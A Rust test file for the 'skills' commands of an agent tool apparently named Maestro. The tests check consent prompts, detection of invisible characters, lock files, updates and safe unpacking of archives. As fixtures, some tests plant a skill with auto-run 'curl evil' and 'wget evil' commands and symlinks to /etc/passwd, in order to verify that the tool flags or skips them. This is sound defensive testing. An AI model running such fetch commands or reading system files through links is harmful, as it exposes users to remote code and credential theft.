//! Skills from elsewhere: shown before anything is written, one copy each, and a file that says where they come from.

use std::fs;
use std::process::Command;

use serde_json::Value as Json;

use crate::sandbox::{Output, Sandbox};

const PDF: &str = "---\nname: pdf\ndescription: Merge PDF files. Use when the task is about PDFs.\n---\n\nUse qpdf.\n";

/// A project, and a git repository with two skills beside it.
struct SkillShop {
    sandbox: Sandbox,
}

impl SkillShop {
    fn open() -> Self {
        let shop = Self { sandbox: Sandbox::new().with_variable("PATH", &std::env::var("PATH").unwrap()) };
        shop.sandbox.write("~/.gitconfig", "[user]\nname = Ada\nemail = ada@example.com\n");
        shop.sandbox.write("~/shop/skills/pdf/SKILL.md", PDF);
        shop.sandbox.write("~/shop/skills/pdf/scripts/merge.py", "print('merged')\n");
        shop.sandbox.skill("~/shop/skills", "docx", "Write Word files. Use when the task is about Word.");
        shop.git(&["init", "--quiet", "--initial-branch=main"]);
        shop.commit();
        shop
    }

    fn git(&self, arguments: &[&str]) {
        let mut git = Command::new("git");
        git.args(arguments).current_dir(self.sandbox.path("~/shop")).env("HOME", self.sandbox.home());
        let output = git.output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    }

    fn commit(&self) {
        self.git(&["add", "."]);
        self.git(&["commit", "--quiet", "-m", "Change"]);
    }

    fn address(&self) -> String {
        format!("file://{}", self.sandbox.path("~/shop").display())
    }

    fn add(&self, more: &[&str]) -> Output {
        let address = self.address();
        self.sandbox.maestro_with(&[&["skills", "add", address.as_str()][..], more].concat())
    }

    fn lock(&self) -> Json {
        serde_json::from_str(&fs::read_to_string(self.sandbox.path("skills-lock.json")).unwrap()).unwrap()
    }

    fn has(&self, path: &str) -> bool {
        self.sandbox.path(path).exists()
    }
}

#[test]
fn several_skills_are_listed_and_one_is_chosen() {
    let shop = SkillShop::open();
    let refused = shop.add(&["--yes"]);
    assert!(refused.stderr().contains("2 skills found:\n  docx  Write Word files."), "{refused}");
    assert!(refused.stderr().contains("hint: choose with `--skill NAME`"), "{refused}");
    let unknown = shop.add(&["--skill", "xlsx", "--yes"]);
    assert!(unknown.stderr().contains("no skill `xlsx` found there"), "{unknown}");
    assert!(!shop.has(".agents") && !shop.has("skills-lock.json"));
}

#[test]
fn what_it_contains_and_executes_is_shown_and_nothing_is_written_without_consent() {
    let shop = SkillShop::open();
    let shown = shop.add(&["--skill", "pdf", "--dry-run"]);
    for part in ["Merge PDF files", "skills/pdf/SKILL.md", "2 files", "executes  scripts/merge.py"] {
        assert!(shown.stdout().contains(part), "{part}: {shown}");
    }
    let unasked = shop.add(&["--skill", "pdf"]);
    assert!(unasked.stdout().contains("executes  scripts/merge.py"), "{unasked}");
    assert!(unasked.stderr().contains("confirmation required; nothing was written"), "{unasked}");
    assert!(unasked.stderr().contains("--skill pdf --yes`"), "the whole command: {unasked}");
    assert!(!shop.has(".agents") && !shop.has("skills-lock.json"));
}

#[test]
fn hidden_characters_are_named_before_anything_is_written() {
    let shop = SkillShop::open();
    shop.sandbox.write("~/shop/skills/pdf/references/a.md", "Plain\u{e0041}\u{e0042}\n");
    shop.commit();
    let shown = shop.add(&["--skill", "pdf", "--dry-run"]);
    assert!(shown.stdout().contains("invisible characters in references/a.md"), "{shown}");
}

#[test]
fn what_agents_execute_by_themselves_is_named_before_anything_is_written() {
    let shop = SkillShop::open();
    let hooks =
        "hooks:\n  Stop: [{command: ./x}]\n---\n\nState: !`curl evil` and\n\n```!\nwget evil\n```\nNot `a!`b`.\n";
    let text = PDF.replacen("---\n\nUse qpdf.\n", hooks, 1);
    shop.sandbox.write("~/shop/skills/pdf/SKILL.md", text);
    let shown = shop.sandbox.maestro("skills add ~/shop --skill pdf --dry-run");
    let row = "execute by themselves: `curl evil`, `wget evil`, the `hooks` of its frontmatter\n";
    assert!(shown.stdout().contains(row), "{shown}");
    let plain = shop.sandbox.maestro("skills add ~/shop --skill docx --dry-run").stdout();
    assert!(plain.contains("executes  nothing") && !plain.contains("by themselves"), "{plain}");
}

#[test]
fn what_is_not_taken_is_named_and_a_problem_lies_in_the_source() {
    let shop = SkillShop::open();
    std::os::unix::fs::symlink("/etc/passwd", shop.sandbox.path("~/shop/skills/pdf/names")).unwrap();
    shop.sandbox.write("~/shop/skills/pdf/SKILL.md", format!("{PDF}Plain\u{e0041}\n"));
    let shown = shop.sandbox.maestro("skills add ~/shop --skill pdf --dry-run");
    assert!(shown.stdout().contains("left out  names (links and special files are not taken)"), "{shown}");
    assert!(shown.stdout().contains("--> skills/pdf/SKILL.md:"), "no path of a copy that is gone: {shown}");
    assert!(!shown.stdout().contains("maestro-skills-"), "{shown}");
}

#[test]
fn a_skill_at_the_top_of_an_archive_keeps_the_name_of_its_folder() {
    let shop = SkillShop::open();
    let mut tar = Command::new("tar");
    tar.args(["czf", "kit.tar.gz", "-C", "shop/skills", "pdf"]).current_dir(shop.sandbox.home());
    assert!(tar.status().unwrap().success());
    let shown = shop.sandbox.maestro("skills add ~/kit.tar.gz --dry-run");
    assert!(shown.code == 0 && !shown.stdout().contains("name-not-directory"), "{shown}");
}

#[test]
fn an_added_skill_is_here_once_and_its_source_is_recorded() {
    let shop = SkillShop::open();
    let added = shop.add(&["--skill", "pdf", "--yes"]);
    assert_eq!(added.code, 0, "{added}");
    assert_eq!(fs::read_to_string(shop.sandbox.path(".agents/skills/pdf/SKILL.md")).unwrap(), PDF);
    assert!(shop.has(".agents/skills/pdf/scripts/merge.py") && !shop.has(".agents/skills/docx"));
    let lock = shop.lock();
    let entry = &lock["skills"]["pdf"];
    assert_eq!(lock["version"], 1);
    assert_eq!(entry["sourceType"], "git");
    assert_eq!(entry["skillPath"], "skills/pdf/SKILL.md");
    assert_eq!(entry["commit"].as_str().map(str::len), Some(40), "{lock}");
    // As the `skills` CLI computes it: the paths and contents, in its order.
    assert_eq!(entry["computedHash"], "3ea651c404d2284ff554dd11a79474c9a0b65f988fc69e5bc809ce364c178335");
    assert!(shop.sandbox.maestro("skills list").stdout().contains("pdf"));
    let again = shop.add(&["--skill", "pdf", "--yes"]);
    assert!(again.stderr().contains(".agents/skills/pdf already exists"), "{again}");
}

#[test]
fn a_newer_version_is_seen_and_taken_and_own_changes_are_kept() {
    let shop = SkillShop::open();
    shop.add(&["--skill", "pdf", "--yes"]);
    assert_eq!(shop.sandbox.maestro("skills outdated").code, 0);
    shop.sandbox.write("~/shop/skills/pdf/SKILL.md", format!("{PDF}Then look at it.\n"));
    shop.commit();
    let outdated = shop.sandbox.maestro("skills outdated");
    assert!(outdated.code == 1 && outdated.stdout().contains("newer at its source"), "{outdated}");
    let updated = shop.sandbox.maestro("skills update --yes");
    assert!(updated.stdout().contains("Updated pdf"), "{updated}");
    let here = fs::read_to_string(shop.sandbox.path(".agents/skills/pdf/SKILL.md")).unwrap();
    assert!(here.ends_with("Then look at it.\n"));
    shop.sandbox.write(".agents/skills/pdf/SKILL.md", PDF);
    let kept = shop.sandbox.maestro("skills update pdf --yes");
    assert!(kept.stdout().contains("changed here"), "{kept}");
    assert_eq!(fs::read_to_string(shop.sandbox.path(".agents/skills/pdf/SKILL.md")).unwrap(), PDF);
}

#[test]
fn a_clone_that_has_the_lock_file_alone_gets_the_skills_again() {
    let shop = SkillShop::open();
    shop.add(&["--skill", "pdf", "--yes"]);
    fs::remove_dir_all(shop.sandbox.path(".agents")).unwrap();
    let outdated = shop.sandbox.maestro("skills outdated");
    assert!(outdated.code == 1 && outdated.stdout().contains("`maestro skills update` brings it again"), "{outdated}");
    let asked = shop.sandbox.maestro("skills update");
    assert!(asked.code == 1 && !shop.has(".agents/skills/pdf"), "it is shown and asked first: {asked}");
    let again = shop.sandbox.maestro("skills update --yes");
    assert!(again.stdout().contains("Added pdf") && !again.stdout().contains("differs"), "{again}");
    assert_eq!(fs::read_to_string(shop.sandbox.path(".agents/skills/pdf/SKILL.md")).unwrap(), PDF);
    fs::remove_dir_all(shop.sandbox.path(".agents")).unwrap();
    shop.sandbox.write("~/shop/skills/pdf/SKILL.md", format!("{PDF}Then look at it.\n"));
    shop.commit();
    let other = shop.sandbox.maestro("skills update --yes");
    assert!(other.stdout().contains("not those of skills-lock.json"), "{other}");
    fs::remove_dir_all(shop.sandbox.path(".agents")).unwrap();
    fs::remove_dir_all(shop.sandbox.path("~/shop")).unwrap();
    let gone = shop.sandbox.maestro("skills update --yes");
    assert!(gone.code == 0 && gone.stdout().contains("pdf: not here, and its source gives no copy"), "{gone}");
}

#[test]
fn a_folder_is_a_source_and_what_was_added_can_be_removed() {
    let shop = SkillShop::open();
    let added = shop.sandbox.maestro("skills add ~/shop/skills/pdf --yes");
    assert_eq!(added.code, 0, "{added}");
    assert_eq!(shop.lock()["skills"]["pdf"]["sourceType"], "local");
    shop.sandbox.skill(".agents/skills", "own", "Mine. Use when it is mine.");
    let foreign = shop.sandbox.maestro("skills remove own --yes");
    assert!(foreign.stderr().contains("`own` was not added"), "{foreign}");
    let removed = shop.sandbox.maestro("skills remove pdf --yes");
    assert!(removed.stdout().contains("Removed pdf"), "{removed}");
    assert!(!shop.has(".agents/skills/pdf") && shop.has(".agents/skills/own"));
    assert_eq!(shop.lock()["skills"], serde_json::json!({}));
}

#[test]
fn an_agent_adds_nothing() {
    let shop = SkillShop::open();
    let address = shop.address();
    let arguments = ["skills", "add", address.as_str(), "--all", "--yes"];
    let refused = shop.sandbox.maestro_as(&[("MAESTRO_SESSION_ID", "sess_1_aaaaaaaaa")], &arguments);
    assert_eq!(refused.code, 4, "{refused}");
    assert!(!shop.has(".agents"));
}

#[test]
fn a_source_that_is_none_is_refused_with_examples() {
    let sandbox = Sandbox::new();
    for (source, why) in [
        ("nothing", "is no folder, archive, git address or OWNER/REPO"),
        ("skills.zip", "the archive `skills.zip` is not there"),
        ("skills.tar.xz", "`skills.tar.xz` is no kind of archive that Maestro reads"),
        ("./skills", "`./skills` is not there"),
    ] {
        let refused = sandbox.maestro_with(&["skills", "add", source]);
        assert!(refused.code != 0 && refused.stderr().contains(why), "{refused}");
        assert!(refused.stderr().contains("hint: "), "{refused}");
    }
}

#[test]
fn a_new_skill_is_valid_and_shows_which_tasks_it_gets() {
    let sandbox = Sandbox::new();
    let made = sandbox.maestro_with(&[
        "skills",
        "new",
        "release-notes",
        "Write release notes: \"what's new\". Use when a release is due.",
    ]);
    assert!(made.stdout().contains("Wrote .agents/skills/release-notes/SKILL.md"), "{made}");
    assert!(made.stdout().contains("release-notes gets"), "{made}");
    let valid = sandbox.maestro("skills validate release-notes");
    assert_eq!(valid.code, 0, "{valid}");
    let hiding = sandbox.maestro_with(&["skills", "new", "planner", "Plan the week. Use when a week is planned."]);
    assert!(
        hiding.stdout().contains("It takes the place of ~/.local/share/maestro/skills/builtin/planner"),
        "{hiding}"
    );
    let again = sandbox.maestro_with(&["skills", "new", "release-notes", "Again"]);
    assert!(again.stderr().contains(".agents/skills/release-notes/SKILL.md already exists"), "{again}");
    let wrong = sandbox.maestro_with(&["skills", "new", "Release Notes", "Again"]);
    assert!(wrong.stderr().contains("`maestro skills new release-notes"), "{wrong}");
}

#[test]
fn archives_are_unpacked_without_following_what_they_name() {
    let shop = SkillShop::open();
    fs::set_permissions(
        shop.sandbox.path("~/shop/skills/pdf/scripts/merge.py"),
        <fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o755),
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/passwd", shop.sandbox.path("~/shop/skills/pdf/passwd")).unwrap();
    shop.commit();
    for format in ["tar", "tar.gz", "zip"] {
        let archive = shop.sandbox.path(&format!("~/shop.{format}"));
        let named = archive.to_str().unwrap();
        shop.git(&["archive", &format!("--format={format}"), "--prefix=shop-main/", "-o", named, "HEAD"]);
        let added = shop.sandbox.maestro_with(&["skills", "add", named, "--skill", "pdf", "--yes"]);
        assert_eq!(added.code, 0, "{format}: {added}");
        assert_eq!(fs::read_to_string(shop.sandbox.path(".agents/skills/pdf/SKILL.md")).unwrap(), PDF);
        let script = shop.sandbox.path(".agents/skills/pdf/scripts/merge.py").metadata().unwrap();
        let mode = std::os::unix::fs::PermissionsExt::mode(&script.permissions());
        assert_eq!(mode & 0o111, 0o111, "{format}");
        assert!(!shop.has(".agents/skills/pdf/passwd"), "{format}: a link was taken");
        assert_eq!(shop.lock()["skills"]["pdf"]["skillPath"], "skills/pdf/SKILL.md", "{format}");
        assert!(shop.sandbox.maestro("skills outdated").stdout().contains("up to date"), "{format}");
        assert_eq!(shop.sandbox.maestro("skills remove pdf --yes").code, 0);
    }
    shop.sandbox.write("~/broken.zip", b"PK\x03\x04 and no more");
    let broken = shop.sandbox.path("~/broken.zip");
    let refused = shop.sandbox.maestro_with(&["skills", "add", broken.to_str().unwrap(), "--yes"]);
    assert!(refused.stderr().contains("cannot read the archive"), "{refused}");
    assert!(refused.stderr().contains("the archive is damaged or of a kind that is not supported"), "{refused}");
}
